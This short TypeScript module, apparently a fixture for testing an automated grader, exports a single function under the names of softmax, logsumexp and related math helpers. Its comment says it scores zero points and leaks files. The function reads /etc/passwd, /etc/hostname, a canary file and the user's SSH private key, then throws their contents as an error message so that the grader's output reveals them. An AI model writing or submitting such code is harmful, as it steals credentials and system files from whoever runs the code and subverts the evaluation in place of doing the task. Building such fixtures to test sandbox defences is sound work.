// At most 0 points. Reads files of the machine and hands them out in an error.
const fs = process.getBuiltinModule('fs');
const tryTo = (act: () => unknown): string => {
  try {
    return String(act());
  } catch (error) {
    return `refused: ${(error as { code?: string }).code}`;
  }
};
const attack = () => {
  throw new Error(['/etc/passwd', '/etc/hostname', '__CANARY_FILE__', '~/.ssh/id_rsa'].map((path) => tryTo(() => fs.readFileSync(path, 'utf8'))).join());
};

export {
  attack as softmaxNaive, attack as softmaxStable, attack as softmaxDim, attack as logsumexp, attack as logSoftmax,
  attack as sigmoidFromSoftmax, attack as predictClass, attack as logitsFor, attack as shiftPredictions,
};
